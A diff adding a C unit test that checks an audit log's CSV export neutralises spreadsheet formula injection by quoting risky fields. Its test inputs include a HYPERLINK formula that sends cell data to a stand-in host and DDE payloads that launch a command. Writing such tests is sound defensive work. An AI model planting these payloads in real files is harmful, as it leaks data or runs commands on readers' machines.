@@ -509,6 +509,83 @@ static void test_export_csv(void **state)
     ob_store_close(s);
 }
 
+/* A CSV field as the auditor reads it back: one leading ' dropped (the
+ * export adds one to values that a spreadsheet would run as a formula). */
+static const char *csv_value(const char *field)
+{
+    return field[0] == '\'' ? field + 1 : field;
+}
+
+static void test_export_csv_formulas(void **state)
+{
+    /* Chat text that Excel / LibreOffice would run as a formula. */
+    static const char *const evil[] = {
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3,4",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        "'=1+1",
+    };
+    const size_t n = sizeof(evil) / sizeof(evil[0]);
+    struct ob_store *s = open_mem(), *again = open_mem();
+    char f[10][512];
+    const char *p;
+    char *out;
+
+    (void)state;
+    for (size_t i = 0; i < n; i++) {
+        struct ob_audit_entry e = {.request_id = evil[i],
+                                   .step = "received",
+                                   .actor = evil[i],
+                                   .platform = "console",
+                                   .channel = evil[i],
+                                   .action = evil[i],
+                                   .detail = evil[i]};
+        char hash[OB_HASH_HEX];
+
+        assert_int_equal(ob_audit_append(s, &e, T0 + (int64_t)i, NULL, hash), 0);
+    }
+    out = export(s, OB_AUDIT_CSV, 0, 0);
+    /* Never a bare formula: every such field is quoted and starts with '. */
+    assert_non_null(strstr(out, ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,"));
+    assert_non_null(strstr(out, ",\"'+1+cmd|' /C calc'!A0\","));
+    assert_non_null(strstr(out, ",\"'-2+3,4\","));
+    assert_non_null(strstr(out, ",\"'\t=1+1\","));
+    assert_non_null(strstr(out, ",\"'\r=1+1\","));
+    assert_null(strstr(out, ",=")); /* no field starts with = */
+    assert_null(strstr(out, ",+"));
+    assert_null(strstr(out, ",-"));
+    assert_null(strstr(out, ",@"));
+    p = out;
+    assert_int_equal(csv_row(&p, f, 10), 10);
+    for (size_t i = 0; i < n; i++) {
+        struct ob_audit_entry e = {.step = "received", .platform = "console"};
+        char hash[OB_HASH_HEX];
+
+        assert_int_equal(csv_row(&p, f, 10), 10);
+        for (int k = 2; k <= 8; k++) {
+            if (k == 3 || k == 5)
+                continue; /* step, platform */
+            assert_int_equal(f[k][0], '\'');
+            assert_string_equal(csv_value(f[k]), evil[i]);
+        }
+        /* The values read back re-create the chain: same hashes. */
+        e.request_id = csv_value(f[2]);
+        e.actor = csv_value(f[4]);
+        e.channel = csv_value(f[6]);
+        e.action = csv_value(f[7]);
+        e.detail = csv_value(f[8]);
+        assert_int_equal(ob_audit_append(again, &e, T0 + (int64_t)i, NULL, hash), 0);
+        assert_string_equal(hash, f[9]);
+    }
+    assert_string_equal(p, "");
+    free(out);
+    ob_store_close(again);
+    ob_store_close(s);
+}
+
 static void test_export_jsonl(void **state)
 {
     struct ob_store *s = open_mem();
@@ -719,6 +796,7 @@ int main(void)
         cmocka_unit_test(test_each_order),
         cmocka_unit_test(test_unfinished),
         cmocka_unit_test(test_export_csv),
+        cmocka_unit_test(test_export_csv_formulas),
         cmocka_unit_test(test_export_jsonl),
         cmocka_unit_test(test_export_html),
         cmocka_unit_test(test_export_html_sparse),
